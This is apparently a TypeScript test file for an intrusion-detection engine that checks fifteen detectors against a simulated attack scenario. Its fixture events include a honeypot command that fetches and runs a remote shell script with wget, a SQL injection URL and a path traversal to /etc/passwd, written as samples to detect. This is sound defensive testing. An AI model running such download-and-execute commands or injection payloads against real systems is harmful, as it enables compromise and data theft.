import { describe, expect, it } from 'vitest';
import { eventFactory, iso, NOW, simulateService } from '../../tests/fixtures/detection-events.ts';
import { DETECTORS, detectionInterest, maxLookbackSeconds, prefilterAny, runDetectors, runDetectorsReport } from './index.ts';
import { mergeSettings, DEFAULT_DETECTION_SETTINGS as S } from './settings.ts';
import type { DetectionEvent, Detector, DetectorInterest } from './types.ts';

const f = eventFactory();
const SHA = 'c'.repeat(64);

/** A small multi-stage attack: spray + brute force, a scan, web attacks, a dropped and executed bot, IDS alerts. */
function scenario(): DetectionEvent[] {
  const users = ['root', 'admin', 'pi', 'ubuntu', 'test', 'oracle', 'git', 'user', 'ftp', 'guest'];
  return [
    ...users.map((u, i) => f.failedLogin(i * 5, u, '123456')),
    ...Array.from({ length: 16 }, (_, i) => f.conn(100 + i, '203.0.113.9', '192.0.2.20', 20 + i, 'REJ')),
    f.http(200, '/item.php?id=1 UNION SELECT user,pass FROM users', '203.0.113.50'),
    f.http(201, '/file.php?f=../../../../etc/passwd', '203.0.113.50'),
    f.cowrie('cowrie.command.input', 300, { input: 'cd /tmp; wget http://203.0.113.66/b.sh; sh b.sh', session: 'z9' }),
    f.cowrie('cowrie.session.file_download', 301, { url: 'http://203.0.113.66/b.sh', shasum: SHA, destfile: 'b.sh', session: 'z9' }),
    ...[0, 30].map((s) =>
      f.suricata({
        event_type: 'alert',
        timestamp: iso(400 + s),
        src_ip: '45.146.164.110',
        dest_ip: '192.0.2.10',
        dest_port: 22,
        proto: 'TCP',
        alert: { signature_id: 2001219, signature: 'ET SCAN Potential SSH Scan', category: 'Attempted Information Leak', severity: 2 },
      }),
    ),
  ];
}

/** Deterministic shuffle (LCG), so "late" events arrive out of order. */
function shuffled<T>(items: T[], seed = 7): T[] {
  const out = [...items];
  let x = seed;
  for (let i = out.length - 1; i > 0; i--) {
    x = (x * 1_103_515_245 + 12_345) % 2 ** 31;
    const j = x % (i + 1);
    [out[i], out[j]] = [out[j] as T, out[i] as T];
  }
  return out;
}
const chunks = <T>(items: T[], sizes: number[]) =>
  sizes.reduce<{ at: number; out: T[][] }>((acc, n) => ({ at: acc.at + n, out: [...acc.out, items.slice(acc.at, acc.at + n)] }), { at: 0, out: [] }).out;

describe('runDetectors', () => {
  const events = scenario();

  it('finds every stage of the scenario, sorted, with stable fingerprints', () => {
    const found = runDetectors(events, S, NOW);
    expect(found.map((d) => d.fingerprintKey)).toEqual([
      'password_spray|198.51.100.7',
      'ssh_brute_force|198.51.100.7',
      'username_enumeration|198.51.100.7',
      'port_scan|203.0.113.9',
      'web_attack|sql_injection|203.0.113.50',
      'web_attack|path_traversal|203.0.113.50',
      `malware_download|${SHA}|198.51.100.7`,
      'suricata_alert|2001219|45.146.164.110',
    ]);
    for (const d of found) expect(d.fingerprintKey).not.toMatch(/\d{4}-\d{2}-\d{2}|T\d{2}:/);
  });

  it('is batch-independent: one request, one event per request, or shuffled chunks give the same detections', () => {
    const all = simulateService([events], S);
    const single = simulateService(
      events.map((e) => [e]),
      S,
    );
    const late = simulateService(chunks(shuffled(events), [3, 1, 7, 2, 9, 1, 100]), S);
    expect(single.last).toEqual(all.last);
    expect(late.last).toEqual(all.last);
    expect(single.fingerprints).toEqual(all.fingerprints);
    expect(late.fingerprints).toEqual(all.fingerprints);
  });

  it('does not depend on the evaluation clock, input shape, order or repeated events', () => {
    const found = runDetectors(events, S, NOW);
    expect(runDetectors(events, S, new Date(0))).toEqual(found);
    expect(runDetectors(shuffled(events, 3), S, NOW)).toEqual(found);
    expect(runDetectors([...events, ...events.slice(0, 5)], S, NOW)).toEqual(found);
    expect(
      runDetectors(
        new Map([
          ['a', events.slice(0, 20)],
          ['b', events.slice(15)],
        ]),
        S,
        NOW,
      ),
    ).toEqual(found);
    expect(runDetectors({ x: events }, S, NOW)).toEqual(found);
  });

  it('keeps the fingerprint of an ongoing attack when more of it arrives', () => {
    const first = runDetectors(events.slice(0, 7), S, NOW).find((d) => d.detector === 'ssh_brute_force');
    const later = runDetectors(events, S, NOW).find((d) => d.detector === 'ssh_brute_force');
    expect(first?.fingerprintKey).toBe(later?.fingerprintKey);
    expect(first?.eventIds.length).toBeLessThan(later?.eventIds.length ?? 0);
  });

  it('skips disabled detectors and isolates a detector that throws', () => {
    const off = mergeSettings({ disabledDetectors: ['ssh_brute_force', 'web_attack'] });
    expect(runDetectors(events, off, NOW).map((d) => d.detector)).not.toContain('ssh_brute_force');
    const broken: Detector = {
      ...DETECTORS[0],
      id: 'broken',
      evaluate: () => {
        throw new Error('boom');
      },
    } as Detector;
    const report = runDetectorsReport(events, S, NOW, [broken, ...DETECTORS]);
    expect(report.errors).toEqual([{ detector: 'broken', entity: 'src_ip|198.51.100.7', message: 'boom' }]);
    expect(report.detections).toEqual(runDetectors(events, S, NOW));
  });
});

describe('runDetectors at volume', () => {
  // 50,000 events: correctness at volume only; speed is the benchmark's business (npm run bench), never a test's,
  // so the timeout is generous for a busy machine
  it('handles 20,000 failed logins and 30,000 scan probes of one source each', () => {
    const logins = Array.from({ length: 20_000 }, (_, i) => f.failedLogin(i * 0.5, `u${i % 500}`, `p${i}`));
    const probes = Array.from({ length: 30_000 }, (_, i) =>
      f.conn(i * 0.01, '203.0.113.9', `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`, 1 + (i % 1000)),
    );
    const found = runDetectors([...logins, ...probes], S, NOW);
    expect(found.map((d) => d.detector).sort()).toEqual(['credential_stuffing', 'host_scan', 'ssh_brute_force', 'username_enumeration']);
  }, 120_000);
});

describe('registry helpers', () => {
  it('lists 15 detectors with unique ids, versions and MITRE-style ids', () => {
    expect(DETECTORS).toHaveLength(15);
    expect(new Set(DETECTORS.map((d) => d.id)).size).toBe(15);
    for (const d of DETECTORS) {
      expect(d.version).toBeGreaterThanOrEqual(1);
      for (const t of d.mitre) expect(t).toMatch(/^T\d{4}(\.\d{3})?$/);
    }
  });

  it('loads 6 h back by default and follows overrides', () => {
    expect(maxLookbackSeconds(S)).toBe(21_600);
    expect(maxLookbackSeconds(mergeSettings({ slowBruteForce: { lookbackSeconds: 43_200 } }))).toBe(43_200);
  });

  it('prefilterAny keeps the events a detector uses and drops the rest', () => {
    expect(scenario().every((e) => prefilterAny(e))).toBe(true);
    const noise = [
      f.cowrie('cowrie.session.connect', 0),
      f.cowrie('cowrie.client.version', 0, { version: 'SSH-2.0-Go' }),
      f.conn(0, '10.0.0.1', '10.0.0.2', 443, 'SF'),
      f.zeek({ _path: 'dns', ts: iso(0), uid: 'D', 'id.orig_h': '10.0.0.5', 'id.orig_p': 1, 'id.resp_h': '10.0.0.1', 'id.resp_p': 53, query: 'example.com' }),
    ];
    expect(noise.filter((e) => prefilterAny(e))).toEqual([]);
  });

  it('declares interests that are a superset of every prefilter (safe for a SQL prefilter)', () => {
    const matches = (e: DetectionEvent, i: DetectorInterest) =>
      i.actions.includes(e.action) ||
      i.categories.includes(e.category) ||
      i.fields.some((k) => e[k] !== null) ||
      i.attributeKeys.some((k) => e.attributes[k] !== undefined && e.attributes[k] !== null);
    const sample = [
      ...scenario(),
      f.sshdFailed(0),
      f.cowrie('cowrie.login.success', 0, { username: 'root' }),
      f.zeek({ _path: 'notice', ts: iso(0), note: 'Scan::Port_Scan', src: '1.2.3.4' }),
    ];
    for (const d of DETECTORS) for (const e of sample) if (d.prefilter(e)) expect(matches(e, d.interest), `${d.id} ${e.action}`).toBe(true);
    const union = detectionInterest(S);
    expect(union.actions).toContain('cowrie.login.failed');
    expect(union.categories).toEqual(['authentication', 'web']);
    expect(union.fields).toEqual(['processCommandLine', 'url']);
  });
});
